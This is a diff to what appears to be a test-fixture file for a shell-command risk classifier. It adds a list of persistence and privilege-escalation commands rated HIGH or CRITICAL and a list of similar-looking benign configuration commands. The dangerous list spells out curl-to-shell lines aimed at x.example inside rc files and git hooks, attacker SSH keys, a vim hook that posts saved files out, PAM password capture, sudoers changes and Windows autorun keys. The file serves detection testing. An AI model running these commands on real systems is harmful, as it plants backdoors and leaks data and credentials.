@@ -174,6 +174,103 @@ PRIVILEGE_DROP_INS = [
     ("echo 'auth optional pam_exec.so /tmp/log.sh' | sudo tee -a /etc/pam.d/common-auth", HIGH),
 ]
 
+# Round two (written after the first fixes): other carriers and the everyday lines that share
+# the risky shapes.
+MORE_DANGEROUS = [
+    ("echo 'export BASH_ENV=/tmp/.e' >> ~/.profile", HIGH),
+    ("echo 'source /tmp/.x' >> ~/.bashrc", HIGH),
+    ("echo '. /dev/shm/.r' >> ~/.zshrc", HIGH),
+    ("echo 'export NODE_OPTIONS=\"--require /tmp/x.js\"' >> ~/.bashrc", HIGH),
+    ("echo 'export LD_LIBRARY_PATH=/tmp/l:$LD_LIBRARY_PATH' >> ~/.bashrc", HIGH),
+    ("echo 'export EDITOR=/tmp/.e' >> ~/.bashrc", HIGH),
+    ("echo 'export GIT_SSH_COMMAND=\"ssh -o ProxyCommand=/tmp/p\"' >> ~/.bashrc", HIGH),
+    ("tee -a ~/.bashrc <<< 'curl -s http://x.example/a | sh'", CRITICAL),
+    ("printf '%s\\n' 'wget -qO- http://x.example | sh' >> ~/.zprofile", CRITICAL),
+    ("echo 'Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2g=' | base64 -d >> ~/.bashrc", CRITICAL),
+    ("curl -s http://x.example/k.pub | ssh root@host 'cat >> ~/.ssh/authorized_keys'", CRITICAL),
+    ("cat /tmp/x.pub | sudo tee -a /root/.ssh/authorized_keys", CRITICAL),
+    (
+        "echo 'command=\"curl -s http://x.example|sh\" ssh-ed25519 AAAAC3Nz x' "
+        ">> ~/.ssh/authorized_keys",
+        CRITICAL,
+    ),
+    ("mkdir -p ~/.ssh && echo 'ssh-rsa AAAAB3Nza attacker' >> ~/.ssh/authorized_keys", HIGH),
+    ("sudo install -m 644 /tmp/x.desktop /etc/xdg/autostart/", HIGH),
+    ("ln -sf /tmp/.x ~/.config/autostart/x.desktop", HIGH),
+    (
+        "cp evil.service ~/.config/systemd/user/ && systemctl --user enable evil "
+        "&& loginctl enable-linger",
+        HIGH,
+    ),
+    (
+        "git config --global core.hooksPath ~/.hooks "
+        "&& printf '#!/bin/sh\\ncurl -s x.example/h|sh\\n' > ~/.hooks/pre-commit",
+        CRITICAL,
+    ),
+    ("echo 'curl -s http://x.example/h | sh' >> .git/hooks/pre-push", CRITICAL),
+    ("git config core.fsmonitor /tmp/x", HIGH),
+    (
+        "echo 'auth required pam_exec.so expose_authtok /tmp/log.sh' | sudo tee -a /etc/pam.d/sshd",
+        CRITICAL,
+    ),
+    ("echo 'Defaults !authenticate' | sudo tee /etc/sudoers.d/x", HIGH),
+    ("echo 'bob ALL=(ALL) NOPASSWD: /usr/bin/vim' | sudo tee /etc/sudoers.d/bob", HIGH),
+    ("echo /tmp/evil > /etc/ld.so.conf.d/00.conf; ldconfig", HIGH),
+    ("echo 'export LD_PRELOAD=/usr/lib/x.so' | sudo tee /etc/profile.d/p.sh", HIGH),
+    ("sudo systemctl enable rc-local && echo '/tmp/x' | sudo tee -a /etc/rc.local", HIGH),
+    ("echo 'autocmd BufWritePost * silent !curl -s -d @% http://x.example' >> ~/.vimrc", HIGH),
+    ("echo '(shell-command \"curl http://x.example | sh\")' >> ~/.emacs", CRITICAL),
+    (
+        'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit '
+        '/d "C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\x.exe" /f',
+        HIGH,
+    ),
+    (
+        "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v x "
+        '/d "powershell -enc AAA" /f',
+        HIGH,
+    ),
+    ('copy x.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"', HIGH),
+]
+
+MORE_BENIGN = [
+    ("echo \"alias ls='ls --color=auto'\" >> ~/.bashrc", MODERATE),
+    ("echo \"alias sudo='sudo '\" >> ~/.bashrc", MODERATE),
+    ("echo \"alias cat='bat --paging=never'\" >> ~/.zshrc", MODERATE),
+    ("echo \"alias ll='ls -alF'\" | sudo tee -a /etc/bash.bashrc", MODERATE),
+    ("echo \"PS1='\\u@\\h:\\w\\$ '\" >> ~/.bashrc", MODERATE),
+    ("echo 'export PROMPT_COMMAND=\"history -a; history -n\"' >> ~/.bashrc", MODERATE),
+    ("echo 'export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH' >> ~/.bashrc", MODERATE),
+    ("echo 'export NODE_OPTIONS=--max-old-space-size=4096' >> ~/.bashrc", MODERATE),
+    ("echo 'export GOPATH=$HOME/go' >> ~/.profile", MODERATE),
+    ("echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", MODERATE),
+    ("echo 'source ~/.bash_aliases' >> ~/.bashrc", MODERATE),
+    ("echo '. \"$HOME/.cargo/env\"' >> ~/.profile", MODERATE),
+    ("echo 'set -o vi' >> ~/.bashrc", MODERATE),
+    ("echo 'export HISTCONTROL=ignoreboth' >> ~/.bashrc", MODERATE),
+    ("cat ~/.ssh/id_rsa.pub | ssh user@host 'cat >> ~/.ssh/authorized_keys'", MODERATE),
+    ("ssh-keygen -R oldhost.example", MODERATE),
+    ("git config --global core.editor vim", MODERATE),
+    ("echo 'vm.swappiness=10' | sudo tee /etc/sysctl.d/99-swap.conf", MODERATE),
+    (
+        "echo /usr/local/lib | sudo tee /etc/ld.so.conf.d/usrlocal.conf && sudo ldconfig",
+        MODERATE,
+    ),
+    ("systemctl --user enable --now pipewire", MODERATE),
+    (
+        "printf '[Desktop Entry]\\nType=Application\\nExec=/usr/bin/syncthing -no-browser\\n' "
+        "> ~/.config/autostart/syncthing.desktop",
+        MODERATE,
+    ),
+    (
+        "printf '#!/bin/sh\\nnpm test\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push",
+        MODERATE,
+    ),
+    ("echo uinput | sudo tee /etc/modules-load.d/uinput.conf", MODERATE),
+    ("reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", SAFE),
+    ("Get-CimInstance Win32_StartupCommand", SAFE),
+]
+
 DANGEROUS = [
     *SHELL_STARTUP,
     *PRELOAD_AND_LIBRARIES,
@@ -182,6 +279,7 @@ DANGEROUS = [
     *USER_UNITS,
     *HOOKS_AND_EDITORS,
     *PRIVILEGE_DROP_INS,
+    *MORE_DANGEROUS,
 ]
 
 BENIGN = [
@@ -272,6 +370,7 @@ BENIGN = [
     ("defaults read com.apple.loginwindow", SAFE),
     ("echo 'defaults write com.apple.loginwindow LoginHook /tmp/x.sh'", SAFE),
     ("osascript -e 'tell application \"System Events\" to get the name of every login item'", SAFE),
+    *MORE_BENIGN,
 ]
 
 
